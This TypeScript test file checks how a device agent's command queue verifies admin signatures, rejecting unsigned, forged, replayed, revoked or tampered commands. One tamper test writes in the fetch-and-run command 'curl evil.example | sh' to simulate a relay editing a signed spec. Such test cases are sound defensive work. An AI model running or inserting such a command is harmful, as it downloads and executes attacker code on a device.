/**
 * The queue's verdicts on what admins signed, over an in-memory DeviceDoc: what the planner is told
 * to trust, what it costs when nothing changed, and what a change or a revocation undoes.
 */
import {
  type Command,
  type CommandId,
  draftCommand,
  FoldCache,
  insertCommand,
  isLive,
  liveCommand,
  nextRunnable,
  planQueue,
  recordSigner,
  requestCancel,
  signCommand,
  toStored,
  toStoredSpec,
} from "@outpost/shared-model";
import { cleanupAfterEach, testRoot } from "@outpost/shared-model/testing";
import { describe, expect, it, vi } from "vitest";
import { memoryDevice } from "../../testing/memory-device.js";
import { memoryTrust } from "../../testing/memory-trust.js";
import { NO_ROOT_PINNED, type TrustSource } from "../../trust/trust-status.js";
import { QueueVerdicts } from "./queue-verdicts.js";

const cleanup = cleanupAfterEach();

async function setUp() {
  const device = await memoryDevice(cleanup, "queue-verdicts");
  const fleet = await memoryTrust(device);
  const alice = await fleet.admin("alice");
  const folds = new FoldCache();
  const verdicts = new QueueVerdicts(fleet.trust, device.deviceId);
  const check = () => verdicts.check(device.device.doc(), folds.stateOf);
  const plan = async () => {
    const doc = device.device.doc();
    const trust = await verdicts.check(doc, folds.stateOf);
    return planQueue(doc, Date.now(), { stateOf: folds.stateOf, trust });
  };
  const reasonOf = (plan: Awaited<ReturnType<typeof planQueue>>, id: CommandId) =>
    plan.decisions.find((decision) => decision.commandId === id)?.fact;
  return { ...device, fleet, alice, verdicts, check, plan, reasonOf, folds };
}

describe("QueueVerdicts", () => {
  it("trusts what a certified admin signed, and tells the planner why it refuses the rest", async () => {
    const { device, alice, plan, reasonOf } = await setUp();
    const signed = await alice.enqueue(device, { kind: "inventory.collect", priority: 2 });
    let unsigned: CommandId | undefined;
    device.change((doc) => {
      // A writer with an admin token but no key: the command claims alice.
      unsigned = insertCommand(doc, draftCommand({ kind: "shell.run" }, alice.actor()));
    });
    // A key whose certificate is not from this fleet's root.
    const foreign = await (await testRoot()).adminSigner("alice");
    const forged = await signCommand(
      foreign,
      device.doc().deviceId,
      draftCommand({ kind: "shell.run" }, alice.actor()),
    );
    device.change((doc) => {
      insertCommand(doc, forged);
      recordSigner(doc, foreign.certificate);
    });

    const result = await plan();
    expect(reasonOf(result, signed)).toBeUndefined();
    expect(result.runnable.map((entry) => entry.id)).toEqual([signed]);
    expect(reasonOf(result, unsigned as CommandId)).toEqual({
      type: "rejected",
      reason: "signature-missing: unsigned (admin:alice)",
    });
    expect(reasonOf(result, forged.spec.id)).toMatchObject({
      type: "rejected",
      reason: expect.stringMatching(/^signer-unknown: certificate of key .* is not signed/),
    });
  });

  it("orders by a priority only when its register is trusted, and answers an untrusted cancel", async () => {
    const { device, alice, plan, reasonOf } = await setUp();
    const [low, high] = await alice.enqueueAll(device, [
      { kind: "inventory.collect", priority: 2 },
      { kind: "inventory.collect", priority: 7 },
    ]);
    // The relay raises `low` above everything and asks to cancel `high`, signing neither.
    device.change((doc) => {
      const command = doc.commands[low as CommandId];
      if (command) command.priority = { value: 9, setBy: "admin:alice", setAt: Date.now() };
      requestCancel(doc, high as CommandId, alice.actor());
    });
    const result = await plan();
    expect(result.runnable.map((entry) => entry.id)).toEqual([high, low]);
    expect(reasonOf(result, high as CommandId)).toMatchObject({
      type: "intent-rejected",
      reason: "signature-missing: unsigned (admin:alice)",
    });
    // Signed, both count.
    await alice.reprioritize(device, low as CommandId, 9);
    const signedCancel = await alice.cancel(device, high as CommandId);
    const again = await plan();
    expect(again.runnable.map((entry) => entry.id)).toEqual([low]);
    // (Nothing was recorded between the plans: the unsigned request is still unanswered.)
    expect(again.decisions.map((decision) => decision.fact)).toEqual([
      expect.objectContaining({ type: "intent-rejected" }),
      { type: "cancelled", answers: signedCancel },
    ]);
  });

  it("refuses a signed command copied onto another device, or under another command's key", async () => {
    const { device, alice, plan, reasonOf } = await setUp();
    const other = await memoryDevice(cleanup, "queue-verdicts-b", 0, "laptop-2");
    const id = await alice.enqueue(other.device, { kind: "inventory.collect" });
    const copy = liveCommand(other.device.doc().commands, id);
    const replayed = "cmd-replayed-under-another-key" as CommandId;
    device.change((doc) => {
      if (copy === undefined) return;
      doc.commands[id] = toStored(copy);
      doc.commands[replayed] = toStored(copy);
      recordSigner(doc, alice.signer.certificate);
    });
    const result = await plan();
    expect(reasonOf(result, id)).toMatchObject({
      type: "rejected",
      reason: expect.stringMatching(
        /^signature-invalid: the signature of alice's key does not match/,
      ),
    });
    expect(reasonOf(result, replayed)).toMatchObject({
      type: "rejected",
      reason: `signature-invalid: filed as ${replayed} but signed as command ${id}`,
    });
  });

  it("costs lookups, not signatures, on an unchanged queue; a changed spec is verified again", async () => {
    const { device, alice, check, fleet } = await setUp();
    const ids = await alice.enqueueAll(
      device,
      Array.from({ length: 50 }, () => ({ kind: "shell.run", args: { command: "echo hi" } })),
    );
    const status = fleet.trust.status;
    if (status.kind !== "pinned") throw new Error("pinned by setUp");
    const verify = vi.spyOn(status.verifier, "verify");
    const first = await check();
    expect(verify).toHaveBeenCalledTimes(100); // each spec and its priority
    // The same snapshot: the same verdicts; a new snapshot with the same commands: no signature.
    expect(await check()).toBe(first);
    device.change((doc) => {
      doc.asset.notes = "unrelated edit";
    });
    await check();
    expect(verify).toHaveBeenCalledTimes(100);

    // The device (or the relay) edits a signed spec, leaving its signature: never a cached yes.
    const target = ids[0] as CommandId;
    device.change((doc) => {
      // The draft's own entry: liveCommand gives a plain copy, which edits nothing.
      const entry = doc.commands[target];
      const spec = liveCommand(doc.commands, target)?.spec;
      if (entry !== undefined && isLive(entry) && spec !== undefined)
        entry.spec = toStoredSpec({
          ...spec,
          args: { ...spec.args, command: "curl evil.example | sh" },
        });
    });
    const trust = await check();
    expect(verify).toHaveBeenCalledTimes(101);
    const tampered = liveCommand(device.doc().commands, target);
    expect(tampered && trust?.specProblem(tampered)).toMatch(/^signature-invalid: /);
  });

  it("counts a revocation at the next plan: what the key signed and has not started is rejected", async () => {
    const { device, alice, plan, reasonOf, fleet, store } = await setUp();
    const bob = await fleet.admin("bob");
    const [waiting] = await alice.enqueueAll(device, [{ kind: "inventory.collect" }]);
    const fromBob = await bob.enqueue(device, { kind: "inventory.collect" });
    expect((await plan()).decisions).toEqual([]);
    await fleet.revoke(alice.signer);
    const result = await plan();
    expect(reasonOf(result, waiting as CommandId)).toEqual({
      type: "rejected",
      reason: `signer-revoked: key ${alice.signer.certificate.keyId} of admin alice was revoked`,
    });
    expect(reasonOf(result, fromBob)).toBeUndefined();
    // Kept in the state file, so a restart never forgets it.
    expect(store.state.revocations?.[alice.signer.certificate.keyId]).toMatchObject({
      keyId: alice.signer.certificate.keyId,
    });
  });

  it("plans nothing while the root is awaited, and refuses everything without one", async () => {
    const { device, alice, folds } = await setUp();
    const id = await alice.enqueue(device, { kind: "inventory.collect" });
    const source = (status: TrustSource["status"]): TrustSource => ({
      status,
      onChange: () => () => {},
    });
    const awaiting = new QueueVerdicts(source({ kind: "awaiting" }), device.doc().deviceId);
    expect(await awaiting.check(device.doc(), folds.stateOf)).toBeUndefined();
    const absent = new QueueVerdicts(
      source({ kind: "absent", reason: "no root" }),
      device.doc().deviceId,
    );
    const trust = await absent.check(device.doc(), folds.stateOf);
    const plan = planQueue(device.doc(), Date.now(), { stateOf: folds.stateOf, trust });
    expect(plan.decisions).toEqual([
      { commandId: id, fact: { type: "rejected", reason: NO_ROOT_PINNED } },
    ]);
    expect(nextRunnable(device.doc(), Date.now(), { trust })).toEqual([]);
  });

  it("asks the planner about nothing it did not verify", async () => {
    const { device, alice, check } = await setUp();
    await alice.enqueue(device, { kind: "inventory.collect" });
    const trust = await check();
    const unseen = {
      ...(Object.values(device.doc().commands)[0] as Command),
    };
    expect(() => trust?.specProblem(unseen)).toThrow("was not verified before planning");
  });
});
